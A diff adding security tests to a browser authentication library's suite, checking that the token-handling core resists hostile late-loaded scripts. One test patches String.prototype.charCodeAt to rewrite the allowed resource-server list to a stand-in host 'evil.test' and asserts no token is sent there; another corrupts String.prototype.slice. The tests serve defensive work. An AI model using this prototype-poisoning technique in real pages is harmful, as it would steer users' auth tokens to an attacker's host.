@@ -126,6 +126,36 @@ test("page: late script that makes the core start anew doesn't get its functions
   assert.equal(tokensIn(stage, headers), 0, "the core hands out tokens");
 });
 
+test("page: late script that makes the core start anew doesn't choose what it is configured with (STORE-9, USE-3, MSG-10)", async (t) => {
+  const { stage, page, sent } = await startSignedIn(t, { planted: true });
+  await page.evaluate(() => {
+    const { charCodeAt } = String.prototype;
+    String.prototype.charCodeAt = function (at) {
+      const text = String(this);
+      const [, listed] = text.match(/"resourceServers":\["([^"]+)"/) ?? [];
+      if (listed) globalThis.evil = "https://evil.test/".padEnd(listed.length - 1, "x").concat("/");
+      return Reflect.apply(charCodeAt, listed ? text.replace(listed, globalThis.evil) : text, [at]);
+    };
+  });
+  assert.equal(await breakDown(stage, page), "TOKENKEEP_HOLDER_RESTARTED");
+  await signInAgain(page);
+  await page.evaluate(() => app.outcome(() => app.auth.fetch(globalThis.evil ?? "https://evil.test/")));
+  assert.equal(tokensIn(stage, JSON.stringify(sent)), 0, "a token went to a host that isn't on the list");
+});
+
+test("page: text beyond ASCII is read whole, whatever slice says (STORE-9, T7)", async (t) => {
+  const stage = await startStage(t, { mode: "page" });
+  const page = await stage.open();
+  await page.evaluate(() => {
+    const { slice } = String.prototype;
+    String.prototype.slice = function (start, end) {
+      return Reflect.apply(slice, this, [start, end]).replace("ä", "e");
+    };
+  });
+  const loginHint = "ada@exämple.test";
+  assert.equal((await leave(page, { loginHint })).login_hint, loginHint);
+});
+
 test("page: late script can't have the core do without randomness (PKCE, STORE-9)", async (t) => {
   const stage = await startStage(t, { mode: "page" });
   const states = [];
